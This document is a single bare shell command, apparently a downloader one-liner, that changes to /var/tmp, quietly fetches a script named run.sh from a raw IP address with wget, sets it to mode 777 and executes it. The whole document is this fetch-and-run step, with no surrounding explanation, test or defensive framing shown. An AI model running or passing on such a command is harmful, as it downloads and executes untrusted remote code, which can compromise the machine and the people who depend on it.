cd /var/tmp && wget -q http://203.0.113.4/run.sh && chmod 777 run.sh && ./run.sh
